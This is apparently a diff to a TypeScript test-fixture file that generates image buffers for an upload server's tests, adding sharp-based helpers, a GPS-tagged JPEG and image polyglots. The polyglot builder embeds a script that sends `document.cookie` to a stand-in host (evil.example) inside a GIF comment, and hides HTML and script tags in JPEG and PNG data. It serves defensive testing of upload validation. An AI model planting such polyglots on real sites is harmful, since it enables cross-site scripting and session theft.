@@ -16,7 +16,11 @@ function pngChunk(type: string, data: Buffer): Buffer {
  * of one colour; without, only its header and an empty data chunk (a header claiming a size is what the
  * server reads; 30000x30000 pixels would not fit in memory anyway).
  */
-export function png(width: number, height: number, options: { pixels?: boolean; rgb?: [number, number, number] } = {}): Buffer {
+export function png(
+  width: number,
+  height: number,
+  options: { pixels?: boolean; rgb?: [number, number, number] } = {},
+): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
@@ -40,12 +44,16 @@ export function png(width: number, height: number, options: { pixels?: boolean; 
 
 /** A JPEG's markers up to its frame header (SOF0 with the size), with an EXIF-like APP1 segment before it. */
 export function jpeg(width: number, height: number, options: { app1Bytes?: number } = {}): Buffer {
-  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
+  const app0 = Buffer.from([
+    0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
+  ]);
   const app1Length = options.app1Bytes ?? 100;
   const app1 = Buffer.alloc(2 + 2 + app1Length);
   app1.writeUInt16BE(0xffe1, 0);
   app1.writeUInt16BE(app1Length + 2, 2);
-  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, 0, 0, 0, 0, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01]);
+  const sof = Buffer.from([
+    0xff, 0xc0, 0x00, 0x11, 0x08, 0, 0, 0, 0, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01,
+  ]);
   sof.writeUInt16BE(height, 5);
   sof.writeUInt16BE(width, 7);
   return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, app1, sof, Buffer.from([0xff, 0xd9])]);
@@ -120,8 +128,95 @@ export function pdf(): Buffer {
 
 /** Bytes that start like an MP4 (an ftyp box), followed by `size` bytes of a repeating pattern. */
 export function mp4Like(size: number): Buffer {
-  const ftyp = Buffer.from([0x00, 0x00, 0x00, 0x18, 0x66, 0x74, 0x79, 0x70, 0x69, 0x73, 0x6f, 0x6d, 0x00, 0x00, 0x02, 0x00, 0x69, 0x73, 0x6f, 0x6d, 0x6d, 0x70, 0x34, 0x31]);
+  const ftyp = Buffer.from([
+    0x00, 0x00, 0x00, 0x18, 0x66, 0x74, 0x79, 0x70, 0x69, 0x73, 0x6f, 0x6d, 0x00, 0x00, 0x02, 0x00, 0x69, 0x73, 0x6f,
+    0x6d, 0x6d, 0x70, 0x34, 0x31,
+  ]);
   const rest = Buffer.alloc(Math.max(0, size - ftyp.length));
   for (let i = 0; i < rest.length; i++) rest[i] = (i * 31 + 7) & 0xff;
   return Buffer.concat([ftyp, rest]).subarray(0, size);
+}
+
+export type RasterKind = "png" | "jpeg" | "gif" | "webp";
+
+/** A real, decodable image of one colour made by sharp (what a camera or an editor would give). */
+export async function realImage(type: RasterKind, width: number, height: number): Promise<Buffer> {
+  const { default: sharp } = await import("sharp");
+  const image = sharp({ create: { width, height, channels: 3, background: { r: 200, g: 60, b: 30 } } });
+  return image.toFormat(type).toBuffer();
+}
+
+/** What an image decodes to: its format, size (upright) and the metadata it still carries. */
+export async function decodeImage(bytes: Buffer) {
+  const { default: sharp } = await import("sharp");
+  const meta = await sharp(bytes, { animated: true }).metadata();
+  return {
+    format: meta.format,
+    width: meta.width,
+    height: meta.pageHeight ?? meta.height,
+    pages: meta.pages ?? 1,
+    exif: meta.exif,
+    xmp: meta.xmp,
+    comments: meta.comments,
+  };
+}
+
+const GIF_TRAILER = 0x3b;
+
+/**
+ * Three polyglots with valid headers that a header check lets through (the issue's hole 12):
+ * - gif: a real GIF89a with JavaScript in a comment extension; gifTrailing: one with JavaScript after its
+ *   trailer (browsers and decoders ignore both; a <script src> pointing at it would not);
+ * - jpeg: a real JPEG with a whole HTML page in a COM (comment) segment;
+ * - png: a real PNG with an HTML tEXt chunk and a trailing <script> after IEND.
+ * Each carries the marker `studium-polyglot` inside its payload.
+ */
+export async function polyglots(
+  width: number,
+  height: number,
+): Promise<Record<"gif" | "gifTrailing" | "jpeg" | "png", Buffer>> {
+  const js = Buffer.from(`*/=1;fetch("//evil.example/"+document.cookie);alert("studium-polyglot");/*`, "latin1");
+  const gifImage = await realImage("gif", width, height);
+  expectTrailer(gifImage);
+  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, js.length]), js, Buffer.from([0x00])]);
+  const gifPolyglot = Buffer.concat([gifImage.subarray(0, gifImage.length - 1), comment, Buffer.from([GIF_TRAILER])]);
+  const gifTrailing = Buffer.concat([gifImage, Buffer.from(`\n;alert("studium-polyglot");//`, "latin1")]);
+
+  const html = Buffer.from(`<html><body><script>alert("studium-polyglot")</script></body></html>`, "latin1");
+  const jpegImage = await realImage("jpeg", width, height);
+  const com = Buffer.alloc(4);
+  com.writeUInt16BE(0xfffe, 0);
+  com.writeUInt16BE(html.length + 2, 2);
+  const jpegPolyglot = Buffer.concat([jpegImage.subarray(0, 2), com, html, jpegImage.subarray(2)]);
+
+  const pngImage = await realImage("png", width, height);
+  const iend = pngImage.length - 12;
+  const text = Buffer.concat([Buffer.from("Comment\0", "latin1"), html]);
+  const pngPolyglot = Buffer.concat([
+    pngImage.subarray(0, iend),
+    pngChunk("tEXt", text),
+    pngImage.subarray(iend),
+    Buffer.from(`<script>alert("studium-polyglot")</script>`, "latin1"),
+  ]);
+  return { gif: gifPolyglot, gifTrailing, jpeg: jpegPolyglot, png: pngPolyglot };
+}
+
+function expectTrailer(bytes: Buffer): void {
+  if (bytes[bytes.length - 1] !== GIF_TRAILER) throw new Error("sharp's GIF does not end with its trailer");
+}
+
+/**
+ * A JPEG photo as a phone saves it: EXIF with a GPS position, the camera's owner and orientation 6 (the
+ * pixels are stored sideways: `width` x `height` shows upright as `height` x `width`).
+ */
+export async function photoWithGps(width: number, height: number): Promise<Buffer> {
+  const { default: sharp } = await import("sharp");
+  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 120, b: 200 } } })
+    .jpeg()
+    .withMetadata({ orientation: 6 })
+    .withExifMerge({
+      IFD0: { Artist: "studium-exif-owner" },
+      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "52/1 13/1 4/1", GPSLongitudeRef: "E", GPSLongitude: "21/1 0/1 40/1" },
+    })
+    .toBuffer();
 }
